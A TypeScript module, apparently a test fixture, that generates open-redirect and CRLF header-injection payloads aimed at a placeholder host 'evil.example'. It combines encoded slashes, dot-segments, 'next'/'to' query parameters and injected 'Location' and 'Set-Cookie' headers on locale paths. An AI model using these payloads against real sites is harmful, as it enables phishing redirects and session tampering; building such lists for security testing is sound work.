// Request lines that try to make a host lead to another site. `evil.example` is the other one.
const EVIL = 'evil.example';

/** What stands for a slash, or vanishes, in one parser or another. */
const STARTS = [
  '//',
  '///',
  '////',
  '/\\',
  '\\/',
  '\\\\',
  '/%5C',
  '/%5c/',
  '/%2F',
  '/%2f%2f',
  '/%09/',
  '/%0a/',
  '/%0D%0A/',
  '/%00/',
  '/%20/',
  '/./',
  '/.//',
  '/..//',
  '/a/..//',
  '/%2e/',
  '/%2e%2e//',
  '/.%2e//',
  '/;//',
  '/@',
  '/:443@',
  '/http://',
  '/https:',
  '/https:%2f%2f',
  '/javascript:',
  '/%E3%80%82/',
  '/%EF%BC%8F',
];

/** Each of them where a redirect follows: a final slash, a file's name, a prefix too many. */
const ENDS = ['/', '//', '/?next=/', '.html', '/index', '/index.html', '/%2e%2e/', '/..;/'];

const PREFIXED = [
  `/en//${EVIL}`,
  `/en///${EVIL}/`,
  `/en/\\${EVIL}`,
  `/en/%5C${EVIL}/`,
  `/en/%2F${EVIL}`,
  `/en/u//${EVIL}`,
  `/en/u/%2F%2F${EVIL}`,
  `/en/u/%5C%5C${EVIL}`,
  `/en/u/..%2f..%2f%2f${EVIL}`,
  `/en/u/%0d%0aLocation:%20https://${EVIL}`,
  `/en/u/x%0d%0aSet-Cookie:%20a=b`,
  `/en/u/@${EVIL}`,
  `/en/terms%0d%0aSet-Cookie:%20a=b/`,
  `/en/terms?next=//${EVIL}`,
  `/ar/adminka?to=https://${EVIL}`,
  `//${EVIL}/en/terms`,
  `/\\${EVIL}/adminka`,
  `//${EVIL}/%2e%2e`,
  `//${EVIL}/en-ph/`,
  `/contest/?next=//${EVIL}`,
  `/%0d%0aSet-Cookie:%20a=b/`,
  `/PH/?to=//${EVIL}`,
  `/ph//${EVIL}/`,
  `/P%48//${EVIL}/`,
];

/** Of a request line only what can stand there: without spaces and control characters. */
export const REDIRECT_PAYLOADS: readonly string[] = [
  ...STARTS.flatMap((start) => ENDS.map((end) => `${start}${EVIL}${end}`)).filter((path) =>
    path.startsWith('/'),
  ),
  ...PREFIXED,
];
